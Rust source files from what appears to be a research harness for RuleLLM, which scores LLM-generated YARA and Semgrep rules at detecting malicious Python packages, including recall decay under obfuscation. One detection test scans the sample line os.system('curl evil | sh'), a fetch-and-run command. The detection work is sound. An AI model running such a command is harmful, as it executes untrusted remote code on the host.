#![warn(missing_docs)]

mod error;
mod matcher;
mod matchset;
pub mod reference;
mod rule;
pub mod yaml;

pub use error::SemgrepError;
pub use matcher::{match_module, Finding};
pub use matchset::{MatchScratch, MatchSet, SemgrepMetrics};
pub use rule::{compile, CompiledSemgrepRules, PatternOp, SemgrepRule, Severity};

use pysrc::Module;

/// Scans a parsed Python module with every rule, returning all findings.
///
/// One single AST pass serves all rules (see [`MatchSet`]); the output is
/// identical to calling [`match_module`] per rule in file order.
///
/// Convenience entry point: the anchor index is rebuilt on every call.
/// Loops scanning many modules against one fixed ruleset should build a
/// [`MatchSet`] once and reuse a [`MatchScratch`], as the hub workers do.
pub fn scan_module(rules: &CompiledSemgrepRules, module: &Module) -> Vec<Finding> {
    let set = MatchSet::new(rules);
    let mut scratch = MatchScratch::new();
    set.match_module_set(module, |_| true, &mut scratch).0
}

/// Convenience: parse `source` and scan it.
pub fn scan_source(rules: &CompiledSemgrepRules, source: &str) -> Vec<Finding> {
    scan_module(rules, &pysrc::parse_module(source))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn end_to_end_scan() {
        let rules = compile(
            r#"
rules:
  - id: os-system
    languages: [python]
    message: "shell command execution"
    severity: WARNING
    pattern: os.system($CMD)
"#,
        )
        .expect("compile");
        let findings = scan_source(&rules, "import os\nos.system('curl evil | sh')\n");
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].rule_id, "os-system");
        assert_eq!(findings[0].line, 2);
    }

    #[test]
    fn multiple_rules_scan() {
        let rules = compile(
            r#"
rules:
  - id: a
    languages: [python]
    message: "m"
    severity: INFO
    pattern: eval($X)
  - id: b
    languages: [python]
    message: "m"
    severity: INFO
    pattern: exec($X)
"#,
        )
        .expect("compile");
        let findings = scan_source(&rules, "eval(x)\nexec(y)\n");
        assert_eq!(findings.len(), 2);
    }
}

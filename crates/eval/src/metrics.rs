//! Confusion-matrix metrics (accuracy / precision / recall / F1).

/// A binary confusion matrix over package-level detection.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Confusion {
    /// Malicious packages detected.
    pub tp: usize,
    /// Legitimate packages flagged.
    pub fp: usize,
    /// Legitimate packages passed.
    pub tn: usize,
    /// Malicious packages missed.
    pub fn_: usize,
}

impl Confusion {
    /// Adds one observation.
    pub fn observe(&mut self, is_malicious: bool, predicted_malicious: bool) {
        match (is_malicious, predicted_malicious) {
            (true, true) => self.tp += 1,
            (true, false) => self.fn_ += 1,
            (false, true) => self.fp += 1,
            (false, false) => self.tn += 1,
        }
    }

    /// Total observations.
    pub fn total(&self) -> usize {
        self.tp + self.fp + self.tn + self.fn_
    }

    /// (TP + TN) / total; 0 on empty.
    pub fn accuracy(&self) -> f64 {
        ratio(self.tp + self.tn, self.total())
    }

    /// TP / (TP + FP); 0 when nothing was predicted positive.
    pub fn precision(&self) -> f64 {
        ratio(self.tp, self.tp + self.fp)
    }

    /// TP / (TP + FN); 0 when there are no positives.
    pub fn recall(&self) -> f64 {
        ratio(self.tp, self.tp + self.fn_)
    }

    /// Harmonic mean of precision and recall.
    pub fn f1(&self) -> f64 {
        let p = self.precision();
        let r = self.recall();
        if p + r == 0.0 {
            0.0
        } else {
            2.0 * p * r / (p + r)
        }
    }
}

fn ratio(num: usize, den: usize) -> f64 {
    if den == 0 {
        0.0
    } else {
        num as f64 / den as f64
    }
}

/// A named metrics row (one line of Table VIII/IX/X).
#[derive(Debug, Clone, PartialEq)]
pub struct MetricsRow {
    /// Row label.
    pub name: String,
    /// The confusion behind the derived numbers.
    pub confusion: Confusion,
}

impl MetricsRow {
    /// Formats the row as `name acc% prec% rec% f1%`.
    pub fn render(&self) -> String {
        format!(
            "{:<28} {:>6.1}% {:>6.1}% {:>6.1}% {:>6.1}%",
            self.name,
            self.confusion.accuracy() * 100.0,
            self.confusion.precision() * 100.0,
            self.confusion.recall() * 100.0,
            self.confusion.f1() * 100.0,
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn perfect_classifier() {
        let c = Confusion {
            tp: 10,
            fp: 0,
            tn: 10,
            fn_: 0,
        };
        assert_eq!(c.accuracy(), 1.0);
        assert_eq!(c.precision(), 1.0);
        assert_eq!(c.recall(), 1.0);
        assert_eq!(c.f1(), 1.0);
    }

    #[test]
    fn paper_rulellm_numbers_reconstruct() {
        // Table VIII: 1,633 malware + 500 legit; recall 91.8%, precision 85.2%.
        let tp = (0.918f64 * 1633.0).round() as usize; // 1499
        let fn_ = 1633 - tp;
        let fp = ((tp as f64) * (1.0 - 0.852) / 0.852).round() as usize; // ~260
        let tn = 500 - fp;
        let c = Confusion { tp, fp, tn, fn_ };
        assert!((c.accuracy() - 0.814).abs() < 0.01, "{}", c.accuracy());
        assert!((c.f1() - 0.884).abs() < 0.01, "{}", c.f1());
    }

    #[test]
    fn degenerate_cases_are_zero() {
        let c = Confusion::default();
        assert_eq!(c.accuracy(), 0.0);
        assert_eq!(c.precision(), 0.0);
        assert_eq!(c.recall(), 0.0);
        assert_eq!(c.f1(), 0.0);
    }

    #[test]
    fn observe_routes_correctly() {
        let mut c = Confusion::default();
        c.observe(true, true);
        c.observe(true, false);
        c.observe(false, true);
        c.observe(false, false);
        assert_eq!((c.tp, c.fn_, c.fp, c.tn), (1, 1, 1, 1));
        assert_eq!(c.accuracy(), 0.5);
    }

    #[test]
    fn row_renders_percentages() {
        let row = MetricsRow {
            name: "RuleLLM".into(),
            confusion: Confusion {
                tp: 9,
                fp: 1,
                tn: 9,
                fn_: 1,
            },
        };
        let s = row.render();
        assert!(s.contains("RuleLLM"));
        assert!(s.contains("90.0%"));
    }
}

//! Text rendering of tables and figures, mirroring the paper's layout.

use crate::experiments::{PerRuleStats, RuleCountRow, VariantReport};
use crate::metrics::{Confusion, MetricsRow};

/// Renders a Table VIII/IX/X-style metrics block.
pub fn render_metrics_table(title: &str, rows: &[MetricsRow]) -> String {
    let mut out = format!(
        "== {title} ==\n{:<28} {:>7} {:>7} {:>7} {:>7}\n",
        "Rule Type", "Acc", "Prec", "Recall", "F1"
    );
    for row in rows {
        out.push_str(&row.render());
        out.push('\n');
    }
    out
}

/// Renders a Table VI block.
pub fn render_dataset_stats(stats: &corpus::DatasetStats) -> String {
    format!(
        "== Table VI: dataset ==\n\
         Category    Pkg.Num  Dedup  Avg.LoC\n\
         Malware     {:>7} {:>6} {:>8.0}\n\
         Legitimate  {:>7} {:>6} {:>8.0}\n",
        stats.malware_total,
        stats.malware_unique,
        stats.malware_avg_loc,
        stats.legit_total,
        stats.legit_total,
        stats.legit_avg_loc,
    )
}

/// Renders a Fig. 5/6-style matched-rule-count curve.
pub fn render_matched_curve(title: &str, curve: &[(usize, Confusion)]) -> String {
    let mut out = format!(
        "== {title} ==\n{:>3} {:>7} {:>7} {:>7} {:>7}\n",
        "k", "Acc", "Prec", "Recall", "F1"
    );
    for (k, c) in curve {
        out.push_str(&format!(
            "{k:>3} {:>6.1}% {:>6.1}% {:>6.1}% {:>6.1}%\n",
            c.accuracy() * 100.0,
            c.precision() * 100.0,
            c.recall() * 100.0,
            c.f1() * 100.0,
        ));
    }
    out
}

/// Renders a Fig. 7/8-style precision histogram as an ASCII bar chart.
pub fn render_precision_histogram(title: &str, bins: &[usize], unmatched: usize) -> String {
    let mut out = format!("== {title} ==\n");
    let max = bins.iter().copied().max().unwrap_or(1).max(1);
    for (i, count) in bins.iter().enumerate() {
        let bar = "#".repeat((count * 40).div_ceil(max).min(40));
        out.push_str(&format!(
            "[{:.1}-{:.1}) {:>5} {bar}\n",
            i as f64 / 10.0,
            (i + 1) as f64 / 10.0,
            count
        ));
    }
    out.push_str(&format!("unmatched rules: {unmatched}\n"));
    out
}

/// Renders a Fig. 9/10-style CDF at decile probe points.
pub fn render_coverage_cdf(title: &str, counts: &[usize], cdf: &[f64]) -> String {
    let mut out = format!("== {title} ==\ncoverage  cdf\n");
    if counts.is_empty() {
        out.push_str("(no rules)\n");
        return out;
    }
    // Probe the CDF at a few meaningful coverage levels.
    for probe in [0usize, 1, 2, 5, 10, 20, 50, 100, 200, 500] {
        let idx = counts.partition_point(|&c| c <= probe);
        let frac = if idx == 0 { 0.0 } else { cdf[idx - 1] };
        out.push_str(&format!("<= {probe:>4}  {:>5.1}%\n", frac * 100.0));
    }
    out
}

/// Renders Table XI.
pub fn render_rule_counts(rows: &[RuleCountRow]) -> String {
    let mut out = String::from(
        "== Table XI: rule counts ==\nFormat               SOTA(ours/paper)  OSS(ours/paper)  RuleLLM\n",
    );
    for r in rows {
        out.push_str(&format!(
            "{:<20} {:>7}/{:<7} {:>7}/{:<7} {:>8}\n",
            r.format, r.sota_total.0, r.sota_total.1, r.sota_oss.0, r.sota_oss.1, r.rulellm
        ));
    }
    out
}

/// Renders Table XII.
pub fn render_taxonomy(rows: &[((&'static str, &'static str), usize)]) -> String {
    let mut out = String::from("== Table XII: rule taxonomy ==\n");
    let mut last_cat = "";
    for ((cat, sub), count) in rows {
        if *cat != last_cat {
            out.push_str(&format!("{cat}\n"));
            last_cat = cat;
        }
        out.push_str(&format!("    {sub:<36} {count:>5}\n"));
    }
    out
}

/// Renders the Fig. 11 overlap heatmap as a numeric grid.
pub fn render_overlap(matrix: &[Vec<usize>]) -> String {
    let mut out = String::from("== Fig 11: category overlap ==\n     ");
    for j in 0..matrix.len() {
        out.push_str(&format!("{j:>5}"));
    }
    out.push('\n');
    for (i, row) in matrix.iter().enumerate() {
        out.push_str(&format!("{i:>4} "));
        for v in row {
            out.push_str(&format!("{v:>5}"));
        }
        out.push('\n');
    }
    out
}

/// Renders the robustness experiment: one block per rule source, one row
/// per evasion arm, with recall/precision decay against the pristine
/// corpus (ISSUE 2's per-transform decay table).
pub fn render_robustness(report: &crate::robustness::RobustnessReport) -> String {
    let mut out = format!(
        "== Robustness: detection decay under evasion (seed {}) ==\n",
        report.seed
    );
    for s in &report.sources {
        out.push_str(&format!(
            "{} (pristine: recall {:.1}%, precision {:.1}%)\n",
            s.source,
            s.original.recall() * 100.0,
            s.original.precision() * 100.0,
        ));
        out.push_str(&format!(
            "  {:<16} {:>7} {:>8} {:>7} {:>8}\n",
            "arm", "recall", "Δrecall", "prec", "Δprec"
        ));
        for row in &s.rows {
            out.push_str(&format!(
                "  {:<16} {:>6.1}% {:>+7.1}% {:>6.1}% {:>+7.1}%\n",
                row.arm,
                row.confusion.recall() * 100.0,
                -s.recall_decay(row) * 100.0,
                row.confusion.precision() * 100.0,
                -s.precision_decay(row) * 100.0,
            ));
        }
    }
    out
}

/// Renders the layered-scanning recovery measurement (decoded layers
/// off vs on, on string-encoded mutants).
pub fn render_layered_recovery(r: &crate::robustness::LayeredRecovery) -> String {
    format!(
        "== Decoded-layer scanning vs `{}` (seed {}) ==\n\
         recall pristine          {:>6.1}%\n\
         recall mutants, layers off {:>4.1}%\n\
         recall mutants, layers on  {:>4.1}%  ({:+.1} pts)\n\
         layer findings on malware  {:>4}\n\
         legit flagged off/on       {:>4} / {}\n",
        r.arm,
        r.seed,
        r.recall_pristine * 100.0,
        r.recall_layers_off * 100.0,
        r.recall_layers_on * 100.0,
        (r.recall_layers_on - r.recall_layers_off) * 100.0,
        r.layer_findings,
        r.legit_flagged_off,
        r.legit_flagged_on,
    )
}

/// Renders the taint robustness measurement: behavior-engine recall
/// across the composite evasion profiles, next to the pristine
/// baseline. The interesting column is the one that barely moves.
pub fn render_taint_robustness(r: &crate::robustness::TaintRobustness) -> String {
    let mut out = format!(
        "== Behavior engine under evasion (rule-less taint scan, seed {}) ==\n\
         pristine: recall {:>5.1}%  flows on malware {}  legit flagged {}\n\
         {:<16} {:>7} {:>8} {:>6}\n",
        r.seed,
        r.recall_pristine * 100.0,
        r.flows_on_malware,
        r.legit_flagged_pristine,
        "arm",
        "recall",
        "Δrecall",
        "legit"
    );
    for row in &r.rows {
        out.push_str(&format!(
            "  {:<14} {:>6.1}% {:>+7.1}% {:>6}\n",
            row.arm,
            row.recall * 100.0,
            (row.recall - r.recall_pristine) * 100.0,
            row.legit_flagged,
        ));
    }
    out.push_str(&format!(
        "light -> aggressive decay: {:.1} pts\n",
        r.light_to_aggressive_decay() * 100.0
    ));
    out
}

/// Renders the variant-detection summary (§V-B).
pub fn render_variants(report: &VariantReport) -> String {
    format!(
        "== Variant detection ==\ngroups: {}  held-out variants: {}  detected: {}\noverall detection rate: {:.2}%\naverage per-group rate: {:.2}%\n",
        report.groups,
        report.total_variants,
        report.detected,
        report.overall_rate * 100.0,
        report.average_rate * 100.0,
    )
}

/// Renders the rules with the widest coverage (the paper's examples:
/// a fake-version rule detecting 568 packages, a C2 rule detecting 185).
pub fn render_top_rules(stats: &[PerRuleStats], top: usize) -> String {
    let mut sorted: Vec<&PerRuleStats> = stats.iter().collect();
    sorted.sort_by_key(|s| std::cmp::Reverse(s.malware_hits));
    let mut out = String::from("== Broadest rules ==\n");
    for s in sorted.iter().take(top) {
        out.push_str(&format!(
            "{:<40} malware: {:>5}  legit: {:>4}\n",
            s.rule, s.malware_hits, s.legit_hits
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn metrics_table_renders() {
        let rows = vec![MetricsRow {
            name: "RuleLLM".into(),
            confusion: Confusion {
                tp: 9,
                fp: 1,
                tn: 9,
                fn_: 1,
            },
        }];
        let s = render_metrics_table("Table VIII", &rows);
        assert!(s.contains("Table VIII"));
        assert!(s.contains("RuleLLM"));
        assert!(s.contains("90.0%"));
    }

    #[test]
    fn histogram_renders_bins() {
        let s = render_precision_histogram("Fig 7", &[0, 0, 1, 0, 0, 0, 0, 0, 0, 5], 3);
        assert!(s.contains("[0.9-1.0)     5"));
        assert!(s.contains("unmatched rules: 3"));
    }

    #[test]
    fn cdf_renders_probes() {
        let counts = vec![0, 1, 1, 3, 10, 200];
        let cdf: Vec<f64> = (1..=6).map(|i| i as f64 / 6.0).collect();
        let s = render_coverage_cdf("Fig 9", &counts, &cdf);
        assert!(s.contains("<=   10"));
        assert!(s.contains("<=  500  100.0%"));
    }

    #[test]
    fn overlap_grid_renders() {
        let m = vec![vec![2, 1], vec![1, 3]];
        let s = render_overlap(&m);
        assert!(s.contains("    0 "));
        assert!(s.lines().count() >= 3);
    }

    #[test]
    fn top_rules_sorted() {
        let stats = vec![
            PerRuleStats {
                rule: "small".into(),
                malware_hits: 2,
                legit_hits: 0,
            },
            PerRuleStats {
                rule: "big".into(),
                malware_hits: 100,
                legit_hits: 1,
            },
        ];
        let s = render_top_rules(&stats, 1);
        assert!(s.contains("big"));
        assert!(!s.contains("small"));
    }
}

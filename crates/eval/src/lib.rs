//! `rulellm-eval` — the paper's evaluation harness (§V).
//!
//! One module per concern:
//!
//! * [`metrics`] — confusion matrices and the accuracy / precision /
//!   recall / F1 derivations every table reports;
//! * [`scan`] — parallel package scanning against YARA and Semgrep
//!   rulesets (package-level detection: a package is flagged when at
//!   least one rule matches);
//! * [`experiments`] — one entry point per table and figure: Table VIII
//!   (main comparison), Table IX (LLM sweep), Table X (ablation),
//!   Table XI (rule counts), Table XII (taxonomy), Figures 5–11, and the
//!   §V-B variant-detection experiment;
//! * [`robustness`] — adversarial-mutation experiment: per-transform and
//!   per-profile recall/precision decay for every rule source, over
//!   corpora mutated by the `obfuscate` engine;
//! * [`report`] — text renderings that mirror the paper's layout, used by
//!   the `repro` binary in `rulellm-bench`.
//!
//! # Examples
//!
//! ```no_run
//! use corpus::CorpusConfig;
//! use eval::experiments::{table8, ExperimentContext};
//!
//! let ctx = ExperimentContext::new(&CorpusConfig::small());
//! let (rows, _matches) = table8(&ctx);
//! for row in &rows {
//!     println!("{}", row.render());
//! }
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod experiments;
pub mod export;
pub mod metrics;
pub mod report;
pub mod robustness;
pub mod scan;

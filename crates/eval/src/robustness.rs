//! Robustness experiment: detection decay under adversarial mutation.
//!
//! For every rule source (the RuleLLM pipeline output and each baseline
//! scanner corpus) and every evasion arm (each single transform, then
//! the light/medium/aggressive composite profiles), the corpus is
//! mutated with a fixed seed and re-scanned through scanhub. The report
//! compares recall and precision on the mutants against the same rules
//! on the pristine corpus — the per-transform decay table the threat
//! model in `docs/threat_model.md` calls for.

use corpus::Dataset;
use obfuscate::{EvasionProfile, Transform};
use rulellm::PipelineConfig;
use semgrep_engine::CompiledSemgrepRules;
use yara_engine::CompiledRules;

use crate::experiments::{
    compile_output, compile_semgrep_set, confusion_at, run_rulellm, ExperimentContext,
};
use crate::metrics::Confusion;
use crate::scan::{build_targets, scan_all};

/// One rule source under attack.
struct RuleSource {
    name: &'static str,
    yara: Option<CompiledRules>,
    semgrep: Option<CompiledSemgrepRules>,
}

/// Detection quality of one rule source on one evasion arm.
#[derive(Debug, Clone, PartialEq)]
pub struct DecayRow {
    /// Evasion arm name (a transform, or a composite profile).
    pub arm: String,
    /// Confusion over the mutated corpus.
    pub confusion: Confusion,
}

/// All evasion arms for one rule source, with its pristine baseline.
#[derive(Debug, Clone, PartialEq)]
pub struct SourceRobustness {
    /// Rule source label (RuleLLM, Yara scanner, ...).
    pub source: String,
    /// Confusion on the pristine corpus.
    pub original: Confusion,
    /// One row per evasion arm, in arm order.
    pub rows: Vec<DecayRow>,
}

impl SourceRobustness {
    /// Recall lost on `row` relative to the pristine corpus (positive =
    /// the attack worked).
    pub fn recall_decay(&self, row: &DecayRow) -> f64 {
        self.original.recall() - row.confusion.recall()
    }

    /// Precision lost on `row` relative to the pristine corpus.
    pub fn precision_decay(&self, row: &DecayRow) -> f64 {
        self.original.precision() - row.confusion.precision()
    }

    /// The row for a named arm.
    pub fn arm(&self, name: &str) -> Option<&DecayRow> {
        self.rows.iter().find(|r| r.arm == name)
    }
}

/// The full robustness report.
#[derive(Debug, Clone, PartialEq)]
pub struct RobustnessReport {
    /// Master mutation seed (fixed so failures reproduce).
    pub seed: u64,
    /// One block per rule source.
    pub sources: Vec<SourceRobustness>,
}

impl RobustnessReport {
    /// The block for a named source.
    pub fn source(&self, name: &str) -> Option<&SourceRobustness> {
        self.sources.iter().find(|s| s.source == name)
    }
}

/// The evasion arms every robustness run evaluates: each transform in
/// isolation, then the composite profiles weakest-first.
pub fn evasion_arms() -> Vec<EvasionProfile> {
    let mut arms: Vec<EvasionProfile> = Transform::ALL
        .iter()
        .map(|t| EvasionProfile::single(*t))
        .collect();
    arms.extend(EvasionProfile::standard());
    arms
}

/// Runs the robustness experiment over `ctx` with mutation `seed`.
pub fn robustness(ctx: &ExperimentContext, seed: u64) -> RobustnessReport {
    let output = run_rulellm(&ctx.dataset, PipelineConfig::full());
    let (yara, semgrep) = compile_output(&output);
    let yara_corpus =
        yara_engine::compile(&baselines::scanners::yara_corpus()).expect("scanner corpus compiles");
    let semgrep_corpus = compile_semgrep_set(&baselines::scanners::semgrep_corpus());
    let scored = {
        let unique: Vec<&oss_registry::Package> = ctx
            .dataset
            .unique_malware()
            .into_iter()
            .map(|m| &m.package)
            .collect();
        let legit: Vec<&oss_registry::Package> =
            ctx.dataset.legit.iter().map(|l| &l.package).collect();
        let rules = baselines::scored::generate_rules(&unique, &legit, seed);
        yara_engine::compile(&rules.join("\n")).expect("score-based rules compile")
    };
    let sources = [
        RuleSource {
            name: "RuleLLM",
            yara: Some(yara),
            semgrep: Some(semgrep),
        },
        RuleSource {
            name: "Yara scanner",
            yara: Some(yara_corpus),
            semgrep: None,
        },
        RuleSource {
            name: "Semgrep scanner",
            yara: None,
            semgrep: Some(semgrep_corpus),
        },
        RuleSource {
            name: "Score-based",
            yara: Some(scored),
            semgrep: None,
        },
    ];

    // Arms outer, sources inner: each arm's mutated corpus is built
    // once, scanned by every source, then dropped — at paper scale a
    // mutated corpus is large, so only one may be alive at a time.
    let mut blocks: Vec<SourceRobustness> = sources
        .iter()
        .map(|src| {
            let matches = scan_all(src.yara.as_ref(), src.semgrep.as_ref(), &ctx.targets);
            SourceRobustness {
                source: src.name.to_owned(),
                original: confusion_at(&matches, &ctx.targets, 1),
                rows: Vec::new(),
            }
        })
        .collect();
    for profile in evasion_arms() {
        let dataset: Dataset = corpus::mutate_dataset(&ctx.dataset, &profile, seed);
        let targets = build_targets(&dataset);
        for (src, block) in sources.iter().zip(&mut blocks) {
            let matches = scan_all(src.yara.as_ref(), src.semgrep.as_ref(), &targets);
            block.rows.push(DecayRow {
                arm: profile.name.clone(),
                confusion: confusion_at(&matches, &targets, 1),
            });
        }
    }
    RobustnessReport {
        seed,
        sources: blocks,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use corpus::CorpusConfig;

    fn report() -> &'static RobustnessReport {
        static REPORT: std::sync::OnceLock<RobustnessReport> = std::sync::OnceLock::new();
        REPORT.get_or_init(|| {
            let ctx = ExperimentContext::new(&CorpusConfig::tiny());
            robustness(&ctx, 42)
        })
    }

    #[test]
    fn covers_every_source_and_arm() {
        let r = report();
        assert_eq!(r.sources.len(), 4);
        let arm_count = Transform::ALL.len() + 3;
        for s in &r.sources {
            assert_eq!(s.rows.len(), arm_count, "source {}", s.source);
            assert!(s.arm("aggressive").is_some());
            assert!(s.arm("rename").is_some());
        }
    }

    #[test]
    fn mutation_degrades_rulellm_recall_monotonically_with_strength() {
        let r = report();
        let s = r.source("RuleLLM").expect("rulellm block");
        let aggressive = s.arm("aggressive").expect("aggressive row");
        let light = s.arm("light").expect("light row");
        // Composite attacks can only lose recall relative to the pristine
        // corpus, and the full stack must hurt at least as much as
        // cosmetic churn.
        assert!(
            aggressive.confusion.recall() <= s.original.recall() + 1e-9,
            "aggressive recall {} above original {}",
            aggressive.confusion.recall(),
            s.original.recall()
        );
        assert!(
            aggressive.confusion.recall() <= light.confusion.recall() + 0.05,
            "aggressive {} vs light {}",
            aggressive.confusion.recall(),
            light.confusion.recall()
        );
        // The attack is real: the aggressive profile must produce
        // measurable decay against literal-atom-driven rules.
        assert!(
            s.recall_decay(aggressive) > 0.1,
            "aggressive decay suspiciously small: {}",
            s.recall_decay(aggressive)
        );
    }

    #[test]
    fn cosmetic_churn_does_not_create_false_positives() {
        let r = report();
        for s in &r.sources {
            let light = s.arm("light").expect("light row");
            assert!(
                light.confusion.fp <= s.original.fp + 1,
                "source {}: churn inflated false positives {} -> {}",
                s.source,
                s.original.fp,
                light.confusion.fp
            );
        }
    }

    #[test]
    fn report_is_deterministic_in_the_seed() {
        // Compare the shared cached report against one fresh run (the
        // context is regenerated too, so this covers corpus, mutation,
        // pipeline and scan determinism end to end).
        let ctx = ExperimentContext::new(&CorpusConfig::tiny());
        let fresh = robustness(&ctx, 42);
        assert_eq!(&fresh, report());
    }
}

//! Robustness experiment: detection decay under adversarial mutation.
//!
//! For every rule source (the RuleLLM pipeline output and each baseline
//! scanner corpus) and every evasion arm (each single transform, then
//! the light/medium/aggressive composite profiles), the corpus is
//! mutated with a fixed seed and re-scanned through scanhub. The report
//! compares recall and precision on the mutants against the same rules
//! on the pristine corpus — the per-transform decay table the threat
//! model in `docs/threat_model.md` calls for.

use corpus::Dataset;
use obfuscate::{EvasionProfile, Transform};
use rulellm::PipelineConfig;
use semgrep_engine::CompiledSemgrepRules;
use yara_engine::CompiledRules;

use crate::experiments::{
    compile_output, compile_semgrep_set, confusion_at, run_rulellm, ExperimentContext,
};
use crate::metrics::Confusion;
use crate::scan::{build_targets, scan_all, scan_verdicts, ScanTarget};

/// One rule source under attack.
struct RuleSource {
    name: &'static str,
    yara: Option<CompiledRules>,
    semgrep: Option<CompiledSemgrepRules>,
}

/// Detection quality of one rule source on one evasion arm.
#[derive(Debug, Clone, PartialEq)]
pub struct DecayRow {
    /// Evasion arm name (a transform, or a composite profile).
    pub arm: String,
    /// Confusion over the mutated corpus.
    pub confusion: Confusion,
}

/// All evasion arms for one rule source, with its pristine baseline.
#[derive(Debug, Clone, PartialEq)]
pub struct SourceRobustness {
    /// Rule source label (RuleLLM, Yara scanner, ...).
    pub source: String,
    /// Confusion on the pristine corpus.
    pub original: Confusion,
    /// One row per evasion arm, in arm order.
    pub rows: Vec<DecayRow>,
}

impl SourceRobustness {
    /// Recall lost on `row` relative to the pristine corpus (positive =
    /// the attack worked).
    pub fn recall_decay(&self, row: &DecayRow) -> f64 {
        self.original.recall() - row.confusion.recall()
    }

    /// Precision lost on `row` relative to the pristine corpus.
    pub fn precision_decay(&self, row: &DecayRow) -> f64 {
        self.original.precision() - row.confusion.precision()
    }

    /// The row for a named arm.
    pub fn arm(&self, name: &str) -> Option<&DecayRow> {
        self.rows.iter().find(|r| r.arm == name)
    }
}

/// The full robustness report.
#[derive(Debug, Clone, PartialEq)]
pub struct RobustnessReport {
    /// Master mutation seed (fixed so failures reproduce).
    pub seed: u64,
    /// One block per rule source.
    pub sources: Vec<SourceRobustness>,
}

impl RobustnessReport {
    /// The block for a named source.
    pub fn source(&self, name: &str) -> Option<&SourceRobustness> {
        self.sources.iter().find(|s| s.source == name)
    }
}

/// The evasion arms every robustness run evaluates: each transform in
/// isolation, then the composite profiles weakest-first.
pub fn evasion_arms() -> Vec<EvasionProfile> {
    let mut arms: Vec<EvasionProfile> = Transform::ALL
        .iter()
        .map(|t| EvasionProfile::single(*t))
        .collect();
    arms.extend(EvasionProfile::standard());
    arms
}

/// Runs the robustness experiment over `ctx` with mutation `seed`.
pub fn robustness(ctx: &ExperimentContext, seed: u64) -> RobustnessReport {
    let output = run_rulellm(&ctx.dataset, PipelineConfig::full());
    let (yara, semgrep) = compile_output(&output);
    let yara_corpus =
        yara_engine::compile(&baselines::scanners::yara_corpus()).expect("scanner corpus compiles");
    let semgrep_corpus = compile_semgrep_set(&baselines::scanners::semgrep_corpus());
    let scored = {
        let unique: Vec<&oss_registry::Package> = ctx
            .dataset
            .unique_malware()
            .into_iter()
            .map(|m| &m.package)
            .collect();
        let legit: Vec<&oss_registry::Package> =
            ctx.dataset.legit.iter().map(|l| &l.package).collect();
        let rules = baselines::scored::generate_rules(&unique, &legit, seed);
        yara_engine::compile(&rules.join("\n")).expect("score-based rules compile")
    };
    let sources = [
        RuleSource {
            name: "RuleLLM",
            yara: Some(yara),
            semgrep: Some(semgrep),
        },
        RuleSource {
            name: "Yara scanner",
            yara: Some(yara_corpus),
            semgrep: None,
        },
        RuleSource {
            name: "Semgrep scanner",
            yara: None,
            semgrep: Some(semgrep_corpus),
        },
        RuleSource {
            name: "Score-based",
            yara: Some(scored),
            semgrep: None,
        },
    ];

    // Arms outer, sources inner: each arm's mutated corpus is built
    // once, scanned by every source, then dropped — at paper scale a
    // mutated corpus is large, so only one may be alive at a time.
    let mut blocks: Vec<SourceRobustness> = sources
        .iter()
        .map(|src| {
            let matches = scan_all(src.yara.as_ref(), src.semgrep.as_ref(), &ctx.targets);
            SourceRobustness {
                source: src.name.to_owned(),
                original: confusion_at(&matches, &ctx.targets, 1),
                rows: Vec::new(),
            }
        })
        .collect();
    for profile in evasion_arms() {
        let dataset: Dataset = corpus::mutate_dataset(&ctx.dataset, &profile, seed);
        let targets = build_targets(&dataset);
        for (src, block) in sources.iter().zip(&mut blocks) {
            let matches = scan_all(src.yara.as_ref(), src.semgrep.as_ref(), &targets);
            block.rows.push(DecayRow {
                arm: profile.name.clone(),
                confusion: confusion_at(&matches, &targets, 1),
            });
        }
    }
    RobustnessReport {
        seed,
        sources: blocks,
    }
}

/// RuleLLM recall on string-encoded mutants with decoded-layer scanning
/// off versus on — the measurement behind the threat model's layered-
/// scanning refresh. Rules that key on surface text lose the literals a
/// `string-encode` mutation hides behind `b64decode`/`fromhex`
/// expressions; decoded-layer scanning re-exposes them as tagged
/// [`scanhub::LayerFinding`]s.
#[derive(Debug, Clone, PartialEq)]
pub struct LayeredRecovery {
    /// Mutation seed.
    pub seed: u64,
    /// The evasion arm measured (`string-encode`).
    pub arm: String,
    /// Recall on the pristine corpus (layers change nothing there or
    /// under either setting below when the surface already matches).
    pub recall_pristine: f64,
    /// Recall on the mutants with decoded-layer scanning **off**.
    pub recall_layers_off: f64,
    /// Recall on the mutants with decoded-layer scanning **on**.
    pub recall_layers_on: f64,
    /// Total layer-tagged findings across the mutated malicious targets.
    pub layer_findings: u64,
    /// Legitimate targets flagged with layers off (the ruleset's
    /// pre-existing false positives on the mutated corpus).
    pub legit_flagged_off: u64,
    /// Legitimate targets flagged with layers on (layer scanning must
    /// not buy recall by torching precision, so this must not exceed
    /// the off count).
    pub legit_flagged_on: u64,
}

fn flagged_recall(verdicts: &[scanhub::Verdict], targets: &[ScanTarget]) -> f64 {
    let malicious = targets.iter().filter(|t| t.is_malicious).count();
    if malicious == 0 {
        return 0.0;
    }
    let hit = verdicts
        .iter()
        .zip(targets)
        .filter(|(v, t)| t.is_malicious && v.flagged())
        .count();
    hit as f64 / malicious as f64
}

/// Runs the layered-recovery measurement over `ctx` with mutation
/// `seed`.
pub fn layered_recovery(ctx: &ExperimentContext, seed: u64) -> LayeredRecovery {
    let output = run_rulellm(&ctx.dataset, PipelineConfig::full());
    let (yara, semgrep) = compile_output(&output);
    let profile = EvasionProfile::single(Transform::EncodeStrings);
    let mutated: Dataset = corpus::mutate_dataset(&ctx.dataset, &profile, seed);
    let targets = build_targets(&mutated);
    let pristine = scan_verdicts(Some(&yara), Some(&semgrep), &ctx.targets, 0);
    let off = scan_verdicts(Some(&yara), Some(&semgrep), &targets, 0);
    let on = scan_verdicts(Some(&yara), Some(&semgrep), &targets, 2);
    LayeredRecovery {
        seed,
        arm: profile.name,
        recall_pristine: flagged_recall(&pristine, &ctx.targets),
        recall_layers_off: flagged_recall(&off, &targets),
        recall_layers_on: flagged_recall(&on, &targets),
        layer_findings: on
            .iter()
            .zip(&targets)
            .filter(|(_, t)| t.is_malicious)
            .map(|(v, _)| v.layers.len() as u64)
            .sum(),
